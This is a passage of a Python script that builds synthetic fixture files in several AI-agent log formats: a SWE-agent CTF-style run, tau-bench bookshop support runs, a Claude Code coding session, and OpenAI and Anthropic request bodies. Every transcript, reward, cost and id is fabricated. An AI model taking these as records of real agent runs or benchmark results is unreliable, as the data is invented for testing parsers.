                f"[13/Mar/2025:23:4{i % 10}:{(i * 7) % 60:02d} {path} {status}"
                for i, (path, status) in enumerate(
                    (NOFC_PATHS[i % len(NOFC_PATHS)].format(n=i + 1), (200, 304, 404)[i % 3])
                    for i in range(40)
                )
            ),
        ),
        (
            "The request at 23:41 is the only one to /internal/. The flag is the decoded token.",
            f"submit {SECRET}",
            SECRET,
        ),
    ]


def swe_agent_nofc() -> dict[str, Any]:
    """An older SWE-agent trajectory: commands inside the reply text, observations as ``user`` turns."""
    history: list[dict[str, Any]] = [
        {"role": "system", "content": NOFC_SYSTEM, "agent": "primary"},
        {"role": "user", "content": NOFC_DEMO, "agent": "primary", "is_demo": True},
        {"role": "user", "content": NOFC_TASK, "agent": "primary"},
    ]
    trajectory: list[dict[str, Any]] = []
    for discussion, command, output in _swe_nofc_steps():
        reply = f"DISCUSSION\n{discussion}\n```\n{command}\n```"
        history.append(
            {
                "role": "assistant",
                "content": reply,
                "thought": discussion,
                "action": command + "\n",
                "agent": "primary",
            }
        )
        shown = output if output else "Your command ran successfully and did not produce any output."
        observation = f"{shown}\n(Open file: n/a)\n(Current directory: /challenge)\nbash-$"
        history.append({"role": "user", "content": observation, "agent": "primary"})
        trajectory.append(
            {
                "action": command + "\n",
                "observation": shown,
                "response": reply,
                "state": NOFC_STATE,
                "thought": discussion,
            }
        )
    history.pop()  # the run ends with the submit action: its output is in info, not in the history
    return {
        "environment": "swe_main",
        "trajectory": trajectory,
        "history": history,
        "info": {
            "exit_status": "submitted",
            "submission": SECRET,
            "model_stats": {
                "total_cost": 0.318,
                "instance_cost": 0.318,
                "tokens_sent": 98211,
                "tokens_received": 2377,
                "api_calls": len(trajectory),
            },
        },
    }


# -- tau-bench: three runs of a customer-service agent with tools -------------------------------------

TAU_POLICY = """\
# Bookshop Agent Policy

The current time is 2025-04-02 10:30:00 CET.

As a bookshop support agent you help customers look up, change, return and cancel their orders.

- Before any action that changes an order, authenticate the customer by their email address or by \
their name and postcode, even if they give you a customer id.
- Before an action that writes to the database (cancel, return, change address), list the details \
and get an explicit confirmation (yes) from the customer.
- Make one tool call at a time; if you call a tool, do not answer the customer in the same turn.
- Only orders with status "pending" can be cancelled or have their address changed; only orders with \
status "delivered" can be returned, within 30 days of delivery.
- Refunds go to the original payment method, or to a gift card if the customer asks for it.
- Transfer to a human agent only when the request is outside this policy.

## Domain basics
Each order has an id (#B followed by five digits), items with an item id, title, format (paperback, \
hardcover, ebook) and price, a status, a payment method and a delivery address. Ebooks cannot be \
returned once downloaded.
"""

TAU_TOOLS_RESULTS: dict[str, Callable[[dict[str, Any]], Any]] = {
    "find_customer_by_email": lambda a: {"customer_id": "clara_okafor_4412"},
    "get_customer_details": lambda a: {
        "name": {"first_name": "Clara", "last_name": "Okafor"},
        "email": "clara.okafor@example.org",
        "address": {"street": "Lindenweg 12", "city": "Leipzig", "postcode": "04109", "country": "DE"},
        "orders": ["#B20417", "#B20533"],
        "payment_methods": {
            "card_7731": {"brand": "visa", "last_four": "7731"},
            "gift_card_2208": {"balance": 14.5},
        },
    },
    "get_order_details": lambda a: {
        "order_id": a["order_id"],
        "status": "delivered" if a["order_id"] == "#B20417" else "pending",
        "delivered_on": "2025-03-20" if a["order_id"] == "#B20417" else None,
        "items": [
            {
                "item_id": "9780141439518",
                "title": "Pride and Prejudice",
                "format": "paperback",
                "price": 9.99,
            },
            {
                "item_id": "9780262046305",
                "title": "Structure and Interpretation of Computer Programs",
                "format": "hardcover",
                "price": 54.0,
            },
        ],
        "payment_method_id": "card_7731",
    },
    "return_delivered_order_items": lambda a: {
        "order_id": a["order_id"],
        "status": "return requested",
        "refund": 54.0,
        "refund_to": a["payment_method_id"],
    },
    "cancel_pending_order": lambda a: (
        "Error: order #B20533 has status pending but was already packed; cancellation needs a human agent"
    ),
    "think": lambda a: "",
    "transfer_to_human_agents": lambda a: "Transfer successful",
}

TAU_RUNS: tuple[tuple[int, float, str, list[tuple[str, Any]]], ...] = (
    (
        3,
        1.0,
        "You are Clara Okafor. You want to return the SICP hardcover from order #B20417 to your card.",
        [
            ("user", "Hi, I'd like to return a book I bought last month."),
            ("assistant", "I can help with that. Could you give me the email address on your account?"),
            ("user", "Sure, it's clara.okafor@example.org."),
            ("tool", ("find_customer_by_email", {"email": "clara.okafor@example.org"})),
            ("tool", ("get_customer_details", {"customer_id": "clara_okafor_4412"})),
            (
                "assistant",
                "Thank you, Clara. I see two orders, #B20417 and #B20533. Which one is the book in?",
            ),
            ("user", "The first one, it's the SICP hardcover."),
            ("tool", ("get_order_details", {"order_id": "#B20417"})),
            (
                "assistant",
                "Order #B20417 was delivered on 2025-03-20, so it can still be returned. I will "
                "request the return of:\n- Structure and Interpretation of Computer Programs "
                "(hardcover), 54.00 EUR, refunded to your Visa ending in 7731.\nShall I go ahead "
                "(yes/no)?",
            ),
            ("user", "Yes please."),
            (
                "tool",
                (
                    "return_delivered_order_items",
                    {"order_id": "#B20417", "item_ids": ["9780262046305"], "payment_method_id": "card_7731"},
                ),
            ),
            (
                "assistant",
                "Done: the return is requested and 54.00 EUR will go back to your Visa ending in 7731 "
                "once the book arrives. Anything else?",
            ),
            ("user", "No, that's all. Thanks!###STOP###"),
        ],
    ),
    (
        7,
        0.0,
        "You are Clara Okafor. You want to cancel order #B20533 and get the money on your gift card.",
        [
            ("user", "Hello, I need to cancel an order."),
            ("assistant", "Of course. What is the email address on your account?"),
            ("user", "clara.okafor@example.org"),
            ("tool", ("find_customer_by_email", {"email": "clara.okafor@example.org"})),
            ("tool", ("get_order_details", {"order_id": "#B20533"})),
            (
                "tool",
                (
                    "think",
                    {
                        "thought": "The order is pending, so it can be cancelled; the customer wants "
                        "the refund on the gift card, which the policy allows on request."
                    },
                ),
            ),
            (
                "assistant",
                "Order #B20533 is pending. I will cancel it and refund 63.99 EUR to your gift card "
                "ending in 2208. Confirm (yes/no)?",
            ),
            ("user", "yes"),
            ("tool", ("cancel_pending_order", {"order_id": "#B20533", "refund_to": "gift_card_2208"})),
            (
                "assistant",
                "The warehouse has already packed this order, so I cannot cancel it myself. I am "
                "transferring you to a colleague who can.",
            ),
            (
                "tool",
                (
                    "transfer_to_human_agents",
                    {"summary": "Customer wants to cancel packed order #B20533 with a refund to gift card."},
                ),
            ),
            ("user", "OK.###TRANSFER###"),
        ],
    ),
    (
        11,
        1.0,
        "You are Clara Okafor. You only want to know when order #B20533 ships.",
        [
            ("user", "When will my order #B20533 ship?"),
            ("assistant", "Let me check. Could you confirm your email address first?"),
            ("user", "clara.okafor@example.org"),
            ("tool", ("find_customer_by_email", {"email": "clara.okafor@example.org"})),
            ("tool", ("get_order_details", {"order_id": "#B20533"})),
            (
                "assistant",
                "Order #B20533 is pending and packed: it usually leaves the warehouse within one "
                "business day.",
            ),
            ("user", "Great, thanks.###STOP###"),
        ],
    ),
)


def _tau_traj(run: int, steps: list[tuple[str, Any]]) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    traj: list[dict[str, Any]] = [{"role": "system", "content": TAU_POLICY}]
    actions: list[dict[str, Any]] = []
    for index, (role, value) in enumerate(steps):
        if role != "tool":
            # tau-bench writes the assistant's keys content-first, the user's role-first
            traj.append(
                {"content": value, "role": role} if role == "assistant" else {"role": role, "content": value}
            )
            continue
        name, arguments = value
        call_id = f"call_{uuid.uuid5(UUID_NAMESPACE, f'tau-{run}-{index}').hex[:24]}"
        traj.append(
            {
                "content": None,
                "role": "assistant",
                "tool_calls": [
                    {
                        "function": {"arguments": json.dumps(arguments, separators=(",", ":")), "name": name},
                        "id": call_id,
                        "type": "function",
                    }
                ],
            }
        )
        result = TAU_TOOLS_RESULTS[name](arguments)
        traj.append(
            {
                "role": "tool",
                "tool_call_id": call_id,
                "name": name,
                "content": result if isinstance(result, str) else json.dumps(result),
            }
        )
        if name not in ("think", "find_customer_by_email", "get_customer_details", "get_order_details"):
            actions.append({"name": name, "kwargs": arguments})
    return traj, actions


def tau_bench() -> list[dict[str, Any]]:
    """A tau-bench historical-trajectories file: a JSON array of runs."""
    runs = []
    for task_id, reward, instruction, steps in TAU_RUNS:
        traj, actions = _tau_traj(task_id, steps)
        digest = uuid.uuid5(UUID_NAMESPACE, f"tau-hash-{task_id}").hex * 2
        runs.append(
            {
                "task_id": task_id,
                "reward": reward,
                "info": {
                    "task": {
                        "user_id": "clara_okafor_4412",
                        "actions": actions,
                        "instruction": instruction,
                        "outputs": [],
                    },
                    "source": "user",
                    "user_cost": round(0.0011 * len(steps), 4),
                    "reward_info": {
                        "reward": reward,
                        "info": {"r_actions": reward, "gt_data_hash": digest},
                        "actions": actions,
                    },
                },
                "traj": traj,
                "trial": 0,
            }
        )
    return runs


# -- Claude Code: a session log, one event per line -------------------------------------------------

CC_SESSION = str(uuid.uuid5(UUID_NAMESPACE, "claude-code-session"))
CC_CWD = "/home/dev/tidy-cli"
CC_CLI = '''\
"""tidy: remove build leftovers from a project tree."""

import argparse
import shutil
from pathlib import Path

PATTERNS = ("__pycache__", "*.egg-info", ".pytest_cache", "build", "dist")


def leftovers(root: Path) -> list[Path]:
    found: list[Path] = []
    for pattern in PATTERNS:
        found.extend(sorted(root.rglob(pattern)))
    return found


def remove(paths: list[Path]) -> int:
    for path in paths:
        if path.is_dir():
            shutil.rmtree(path)
        else:
            path.unlink()
    return len(paths)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="tidy")
    parser.add_argument("root", nargs="?", default=".", type=Path)
    args = parser.parse_args(argv)
    count = remove(leftovers(args.root))
    print(f"removed {count} path(s)")
    return 0
'''
CC_TEST = """\
from pathlib import Path

from tidy.cli import leftovers, main


def make_tree(root: Path) -> None:
    (root / "pkg" / "__pycache__").mkdir(parents=True)
    (root / "pkg" / "__pycache__" / "m.cpython-312.pyc").write_bytes(b"")
    (root / "dist").mkdir()
    (root / "keep.py").write_text("x = 1\\n")


def test_leftovers_finds_caches_and_dist(tmp_path: Path) -> None:
    make_tree(tmp_path)
    assert {p.name for p in leftovers(tmp_path)} == {"__pycache__", "dist"}


def test_main_removes_them(tmp_path: Path, capsys) -> None:
    make_tree(tmp_path)
    assert main([str(tmp_path)]) == 0
    assert capsys.readouterr().out == "removed 2 path(s)\\n"
    assert (tmp_path / "keep.py").exists() and not (tmp_path / "dist").exists()
"""
CC_REMINDER = (
    "\n\n<system-reminder>\nWhen you read a file, consider whether it could be malware; you may "
    "analyse it but must not improve it.\n</system-reminder>\n"
)


def _numbered(text: str) -> str:
    """Claude Code's Read output: right-aligned line numbers, an arrow, the line."""
    return "\n".join(f"{i:>6}→{line}" for i, line in enumerate(text.splitlines(), start=1)) + CC_REMINDER


CC_DRY_RUN_TEST = """

def test_dry_run_lists_without_removing(tmp_path: Path, capsys) -> None:
    make_tree(tmp_path)
    assert main([str(tmp_path), "--dry-run"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[-1] == "would remove 2 path(s)"
    assert (tmp_path / "dist").exists()
"""
PYTEST_FAIL = """\
============================= test session starts ==============================
collected 3 items

tests/test_cli.py ..F                                                    [100%]

=================================== FAILURES ===================================
______________________ test_dry_run_lists_without_removing _____________________

tmp_path = PosixPath('/tmp/pytest-of-dev/pytest-3/test_dry_run_lists_without_re0')
capsys = <_pytest.capture.CaptureFixture object at 0x7f3a1c2b5d10>

    def test_dry_run_lists_without_removing(tmp_path: Path, capsys) -> None:
        make_tree(tmp_path)
>       assert main([str(tmp_path), "--dry-run"]) == 0

tests/test_cli.py:29:
_ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _ _
src/tidy/cli.py:28: in main
    args = parser.parse_args(argv)
E   SystemExit: 2
----------------------------- Captured stderr call -----------------------------
usage: tidy [-h] [root]
tidy: error: unrecognized arguments: --dry-run
=========================== short test summary info ============================
FAILED tests/test_cli.py::test_dry_run_lists_without_removing - SystemExit: 2
========================= 1 failed, 2 passed in 0.04s =========================="""
PYTEST_PASS = """\
============================= test session starts ==============================
collected 3 items

tests/test_cli.py ...                                                    [100%]

============================== 3 passed in 0.03s ==============================="""
CC_HOOK = """\
Stop hook feedback:
[~/.claude/hooks/check.sh]: # Checks before stopping

The working tree has uncommitted changes:

  M src/tidy/cli.py
  M tests/test_cli.py

Commit them (or explain why not) before you stop."""


class _ClaudeLog:
    """Writes Claude Code events with chained uuids, one timestamp a few seconds after another."""

    def __init__(self) -> None:
        self.events: list[dict[str, Any]] = []
        self.parent: str | None = None
        self.clock = datetime(2025, 6, 3, 9, 14, 2, 118000, tzinfo=UTC)
        self.message_count = 0
        self.request_count = 0

    def _ids(self) -> Iterator[str]:
        while True:
            yield str(uuid.uuid5(UUID_NAMESPACE, f"cc-{len(self.events)}"))

    def _stamp(self, seconds: float) -> str:
        self.clock += timedelta(seconds=seconds)
        return self.clock.isoformat(timespec="milliseconds").replace("+00:00", "Z")

    def _base(self, kind: str, *, sidechain: bool = False) -> dict[str, Any]:
        return {
            "parentUuid": self.parent,
            "isSidechain": sidechain,
            "userType": "external",
            "cwd": CC_CWD,
            "sessionId": CC_SESSION,
            "version": "1.0.51",
            "gitBranch": "main",
            "type": kind,
        }

    def _add(self, event: dict[str, Any], seconds: float, *, chain: bool = True) -> str:
        event_id = next(self._ids())
        event["uuid"] = event_id
        event["timestamp"] = self._stamp(seconds)
        self.events.append(event)
        if chain:
            self.parent = event_id
        return event_id

    def queue(self) -> None:
        self.events.append(
            {
                "type": "queue-operation",
                "operation": "dequeue",
                "timestamp": self._stamp(0),
                "sessionId": CC_SESSION,
            }
        )

    def user(self, content: Any, *, meta: bool = False, sidechain: bool = False) -> None:
        event = self._base("user", sidechain=sidechain)
        event["message"] = {"role": "user", "content": content}
        if meta:
            event["isMeta"] = True
        self._add(event, 0.4, chain=not sidechain)

    def assistant(self, blocks: list[dict[str, Any]], *, sidechain: bool = False) -> list[str]:
        """One API message, logged as one event per content block (as the CLI streams it)."""
        self.message_count += 1
        self.request_count += 1
        message_id = f"msg_01{uuid.uuid5(UUID_NAMESPACE, f'cc-msg-{self.message_count}').hex[:22]}"
        request_id = f"req_011{uuid.uuid5(UUID_NAMESPACE, f'cc-req-{self.request_count}').hex[:21]}"
        usage = {
            "input_tokens": 4,
            "cache_creation_input_tokens": 180 * self.message_count,
            "cache_read_input_tokens": 14200 + 900 * self.message_count,
            "output_tokens": 38,
            "service_tier": "standard",
        }
        ids = []
        for block in blocks:
            event = self._base("assistant", sidechain=sidechain)
            event["message"] = {
                "model": "claude-sonnet-4-20250514",
                "id": message_id,
                "type": "message",
                "role": "assistant",
                "content": [block],
                "stop_reason": None,
                "stop_sequence": None,
                "usage": usage,
            }
            event["requestId"] = request_id
            ids.append(self._add(event, 1.6, chain=not sidechain))
        return ids

    def result(self, tool_use_id: str, content: Any, tool_result: Any, *, error: bool = False) -> None:
        block: dict[str, Any] = {"tool_use_id": tool_use_id, "type": "tool_result", "content": content}
        if error:
            block["is_error"] = True
        event = self._base("user")
        event["message"] = {"role": "user", "content": [block]}
        event["toolUseResult"] = tool_result
        event["sourceToolAssistantUUID"] = self.parent
        self._add(event, 0.3)


def _tool(name: str, tool_input: dict[str, Any], key: str) -> dict[str, Any]:
    return {
        "type": "tool_use",
        "id": f"toolu_01{uuid.uuid5(UUID_NAMESPACE, key).hex[:22]}",
        "name": name,
        "input": tool_input,
    }


def claude_code() -> list[dict[str, Any]]:
    """A Claude Code session: parallel reads, an edit, a failing then passing test run, a hook, a commit."""
    log = _ClaudeLog()
    log.queue()
    log.user(
        "Add a --dry-run flag to tidy: it should list what it would remove and remove nothing. Add a test."
    )
    log.assistant(
        [
            {"type": "text", "text": "I'll look at the CLI and its tests first."},
            (glob := _tool("Glob", {"pattern": "**/*.py"}, "glob")),
        ]
    )
    files = [f"{CC_CWD}/src/tidy/__init__.py", f"{CC_CWD}/src/tidy/cli.py", f"{CC_CWD}/tests/test_cli.py"]
    log.result(
        glob["id"],
        "\n".join(files),
        {"filenames": files, "durationMs": 41, "numFiles": 3, "truncated": False},
    )
    read_cli = _tool("Read", {"file_path": files[1]}, "read-cli")
    read_test = _tool("Read", {"file_path": files[2]}, "read-test")
    log.assistant([read_cli, read_test])
    for call, text in ((read_cli, CC_CLI), (read_test, CC_TEST)):
        log.result(
            call["id"],
            _numbered(text),
            {
                "type": "text",
                "file": {
                    "filePath": call["input"]["file_path"],
                    "content": text,
                    "numLines": len(text.splitlines()),
                    "startLine": 1,
                    "totalLines": len(text.splitlines()),
                },
            },
        )
    # a sidechain (a sub-agent's own conversation) is logged in the same file
    log.user("Find every place that calls remove() in this repository.", sidechain=True)
    log.assistant(
        [{"type": "text", "text": "remove() is called only from main() in src/tidy/cli.py."}], sidechain=True
    )
    old = '    count = remove(leftovers(args.root))\n    print(f"removed {count} path(s)")\n'
    new = (
        "    found = leftovers(args.root)\n    if args.dry_run:\n        for path in found:\n"
        '            print(path)\n        print(f"would remove {len(found)} path(s)")\n        return '
        "0\n"
        '    count = remove(found)\n    print(f"removed {count} path(s)")\n'
    )
    edit_main = _tool("Edit", {"file_path": files[1], "old_string": old, "new_string": new}, "edit-main")
    log.assistant(
        [
            {
                "type": "text",
                "text": "main() removes everything `leftovers()` finds. I'll add the "
                "flag "
                "and branch before `remove()`, then add a test.",
            },
            edit_main,
        ]
    )
    log.result(
        edit_main["id"],
        f"The file {files[1]} has been updated. Here's the result of running "
        "`cat -n` "
        "on a snippet of the edited "
        "file:\n" + _numbered(CC_CLI.replace(old, new)).split(CC_REMINDER)[0],
        {"filePath": files[1], "oldString": old, "newString": new, "replaceAll": False},
    )
    edit_test = _tool(
        "Edit",
        {"file_path": files[2], "old_string": CC_TEST[-60:], "new_string": CC_TEST[-60:] + CC_DRY_RUN_TEST},
        "edit-test",
    )
    log.assistant([edit_test])
    log.result(
        edit_test["id"],
        [{"type": "text", "text": f"The file {files[2]} has been updated."}],
        {
            "filePath": files[2],
            "oldString": CC_TEST[-60:],
            "newString": CC_TEST[-60:] + CC_DRY_RUN_TEST,
            "replaceAll": False,
        },
    )
    run = _tool(
        "Bash",
        {"command": "python -m pytest -q tests/test_cli.py", "description": "Run the tests"},
        "pytest-1",
    )
    log.assistant([run])
    log.result(run["id"], PYTEST_FAIL, "Error: " + PYTEST_FAIL, error=True)
    root_arg = '    parser.add_argument("root", nargs="?", default=".", type=Path)\n'
    add_arg = _tool(
        "Edit",
        {
            "file_path": files[1],
            "old_string": root_arg,
            "new_string": root_arg + '    parser.add_argument("--dry-run", action="store_true",\n'
            '                        help="list what would be removed")\n',
        },
        "edit-arg",
    )
    log.assistant(
        [
            {
                "type": "text",
                "text": "I branched on `args.dry_run` but never declared the option; "
                "adding it to the parser.",
            },
            add_arg,
        ]
    )
    log.result(add_arg["id"], f"The file {files[1]} has been updated.", {"filePath": files[1]})
    rerun = _tool(
        "Bash",
        {"command": "python -m pytest -q tests/test_cli.py", "description": "Run the tests"},
        "pytest-2",
    )
    log.assistant([rerun])
    log.result(rerun["id"], PYTEST_PASS, {"stdout": PYTEST_PASS, "stderr": "", "interrupted": False})
    log.assistant(
        [
            {
                "type": "text",
                "text": "All three tests pass: `tidy --dry-run` lists the paths and "
                "prints `would remove N path(s)` without deleting anything.",
            }
        ]
    )
    log.user(CC_HOOK, meta=True)
    commit = _tool(
        "Bash",
        {
            "command": "git add src/tidy/cli.py tests/test_cli.py && git commit -m 'tidy: add --dry-run'",
            "description": "Commit the change",
        },
        "commit",
    )
    log.assistant([commit])
    summary = "[main 4c1d9e2] tidy: add --dry-run\n 2 files changed, 17 insertions(+), 1 deletion(-)"
    log.result(commit["id"], summary, {"stdout": summary, "stderr": "", "interrupted": False})
    log.assistant([{"type": "text", "text": "Committed as 4c1d9e2. The flag is in place and tested."}])
    return log.events


# -- OpenAI chat and Anthropic Messages request bodies ------------------------------------------------

WEATHER = {
    "city": "Porto",
    "unit": "celsius",
    "forecast": [
        {"day": "2025-05-10", "high": 21, "low": 13, "sky": "sunny"},
        {"day": "2025-05-11", "high": 19, "low": 14, "sky": "showers"},
        {"day": "2025-05-12", "high": 22, "low": 12, "sky": "cloudy"},
    ],
}
TRAINS = [
    {"departs": "07:05", "arrives": "10:02", "train": "AP 131", "price_eur": 31.2},
    {"departs": "09:05", "arrives": "11:58", "train": "AP 133", "price_eur": 35.9},
    {"departs": "13:39", "arrives": "16:39", "train": "IC 523", "price_eur": 24.15},
]


def openai_chat() -> dict[str, Any]:
    """A Chat Completions request body: developer prompt, content parts, images, parallel tool calls."""
    call_weather = "call_" + uuid.uuid5(UUID_NAMESPACE, "oa-weather").hex[:24]
    call_trains = "call_" + uuid.uuid5(UUID_NAMESPACE, "oa-trains").hex[:24]
    return {
        "model": "gpt-4o-2024-08-06",
        "temperature": 0.2,
        "messages": [
            {
                "role": "developer",
                "content": "You are a travel assistant. Use the tools for facts; answer in "
                "short "
                "paragraphs; prices in EUR.",
            },
            {
                "role": "user",
                "content": [
                    {
                        "type": "text",
                        "text": "I'm in Lisbon and want to spend the weekend in Porto. Here is my "
                        "ticket "
                        "for the way back — is the weather good enough, and which train "
                        "should I "
                        "take on Saturday morning?",
                    },
                    {
                        "type": "image_url",
                        "image_url": {"url": f"data:image/png;base64,{PNG_1X1}", "detail": "low"},
                    },
                    {
                        "type": "image_url",
                        "image_url": {"url": "https://example.org/tickets/ap-140-return.jpg"},
                    },
                ],
            },
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": call_weather,
                        "type": "function",
                        "function": {
                            "name": "get_forecast",
                            "arguments": json.dumps({"city": "Porto", "days": 3}),
                        },
                    },
                    {
                        "id": call_trains,
                        "type": "function",
                        "function": {
                            "name": "search_trains",
                            "arguments": json.dumps(
                                {
                                    "from": "Lisboa Santa Apolónia",
                                    "to": "Porto Campanhã",
                                    "date": "2025-05-10",
                                },
                                ensure_ascii=False,
                            ),
                        },
                    },
                ],
            },
            {
                "role": "tool",
                "tool_call_id": call_weather,
                "name": "get_forecast",
                "content": json.dumps(WEATHER),
            },
            {
                "role": "tool",
                "tool_call_id": call_trains,
                "name": "search_trains",
                "content": json.dumps(TRAINS),
            },
            {
                "role": "assistant",
                "content": "Saturday looks sunny in Porto (21 °C), Sunday brings showers. The "
                "07:05 Alfa Pendular (AP 131) gets you there at 10:02 for 31.20 "
                "EUR; "
                "the 13:39 Intercidades is cheaper (24.15 EUR) but you'd lose the "
                "sunny morning. Your return ticket (AP 140) is for Sunday evening.",
            },
            {"role": "user", "content": "Book the 07:05 then."},
            {
                "role": "assistant",
                "content": [
                    {
                        "type": "text",
                        "text": "I can't book tickets myself, but the "
                        "07:05 "
                        "AP 131 can be booked on the CP website "
                        "or "
                        "app; seats in 2nd class are 31.20 "
                        "EUR.",
                    }
                ],
            },
        ],
    }


def anthropic_messages() -> dict[str, Any]:
    """A Messages API request body: system blocks, thinking, parallel tool_use, rich tool_result blocks."""
    ls_id = "toolu_01" + uuid.uuid5(UUID_NAMESPACE, "an-ls").hex[:22]
    shot_id = "toolu_01" + uuid.uuid5(UUID_NAMESPACE, "an-shot").hex[:22]
    grep_id = "toolu_01" + uuid.uuid5(UUID_NAMESPACE, "an-grep").hex[:22]
    return {
        "model": "claude-sonnet-4-20250514",
        "max_tokens": 4096,
        "system": [
            {"type": "text", "text": "You are a front-end debugging assistant with shell and browser tools."},
            {
                "type": "text",
                "text": "Project: a static site built with Vite. Never push to the main branch.",
            },
        ],
        "messages": [
            {
                "role": "user",
                "content": "The hero image is missing on the production build but shows in dev. "
                "Can you find out why?",
            },
            {
                "role": "assistant",
                "content": [
                    {
                        "type": "thinking",
                        "thinking": "Dev vs production differences for assets usually come from the "
                        "base path or from imports vs public/ paths. List dist/ and "
                        "take a "
                        "screenshot of the built page.",
                        "signature": "EqQBCkgIAxABGAIiQL" + uuid.uuid5(UUID_NAMESPACE, "an-sig").hex,
                    },
                    {"type": "text", "text": "I'll compare the built assets with what the page requests."},
                    {
                        "type": "tool_use",
                        "id": ls_id,
                        "name": "bash",
                        "input": {"command": "ls -R dist | head -n 20"},
                    },
                    {
                        "type": "tool_use",
                        "id": shot_id,
                        "name": "screenshot",
                        "input": {"url": "http://localhost:4173/"},
                    },
                ],
            },
            {
                "role": "user",
                "content": [
                    {
                        "type": "tool_result",
                        "tool_use_id": ls_id,
                        "content": "dist:\nassets\nindex.html\n\ndist/assets:\nindex-4f1c2a9b.js\n"
                        "index-9a8e7d1c.css\nlogo-2b7e11aa.svg",
                    },
                    {
                        "type": "tool_result",
                        "tool_use_id": shot_id,
                        "content": [
                            {
                                "type": "text",
                                "text": "Screenshot of http://localhost:4173/ (1280×800): the hero area "
                                "is an "
                                "empty grey box; the console shows GET /img/hero.webp 404.",
                            },
                            {
                                "type": "image",
                                "source": {"type": "base64", "media_type": "image/png", "data": PNG_1X1},
                            },
                        ],
                    },
                    {"type": "text", "text": "That's what I see too."},
                ],
            },
            {
                "role": "assistant",
                "content": [
                    {
                        "type": "text",
                        "text": "The build has no hero image at all. Let me see how it is referenced.",
                    },
                    {
                        "type": "tool_use",
                        "id": grep_id,
                        "name": "bash",
                        "input": {"command": "grep -rn hero src index.html"},
                    },
                ],
            },
            {
                "role": "user",
                "content": [
                    {
                        "type": "tool_result",
                        "tool_use_id": grep_id,
                        "is_error": True,
                        "content": "grep: index.html: No such file or directory\nsrc/App.css:12:  "
                        "background: url('/img/hero.webp') center / cover;",
                    }
                ],
            },
            {
                "role": "assistant",
                "content": "Found it: `src/App.css` points at `/img/hero.webp`, an absolute "
                "path "
                "Vite leaves alone, but the file lives in `src/img/`, which only "
                "the "
                "dev server serves. Move it to `public/img/hero.webp` (copied as is "
                "into dist/) or import it relatively (`url('./img/hero.webp')`) so "
                "Vite fingerprints and copies it.",
            },
        ],
    }


# -- files -------------------------------------------------------------------------------------------


def _json(document: Any) -> str:
    return json.dumps(document, indent=2, ensure_ascii=False) + "\n"


def _jsonl(events: list[dict[str, Any]]) -> str:
    return "".join(json.dumps(event, ensure_ascii=False) + "\n" for event in events)


#: file name → (format loader name, how the file is built)
FIXTURES: dict[str, tuple[str, Callable[[], str]]] = {
    "tau-bench-bookshop.json": ("tau-bench", lambda: _json(tau_bench())),
    "swe-agent-fc-ledgerline.traj": ("swe-agent", lambda: _json(swe_agent_fc())),
    "swe-agent-nofc-quiet-rotation.traj": ("swe-agent", lambda: _json(swe_agent_nofc())),
    "claude-code-tidy-dry-run.jsonl": ("claude-code", lambda: _jsonl(claude_code())),
    "openai-chat-porto-trip.json": ("openai-chat", lambda: _json(openai_chat())),
    "anthropic-messages-hero-image.json": ("anthropic", lambda: _json(anthropic_messages())),
}


def build() -> dict[str, bytes]:
    """Every format fixture's bytes, by file name."""
    return {name: make().encode("utf-8") for name, (_fmt, make) in FIXTURES.items()}


def write(directory: Path = FORMATS_DIR) -> list[Path]:
    """(Re)write the fixtures into ``directory``; returns the paths."""
    directory.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in build().items():
        path = directory / name
        path.write_bytes(data)
        paths.append(path)
    return paths


if __name__ == "__main__":
    for written in write():
        print(f"{written.relative_to(REPO)}: {written.stat().st_size:,} bytes")
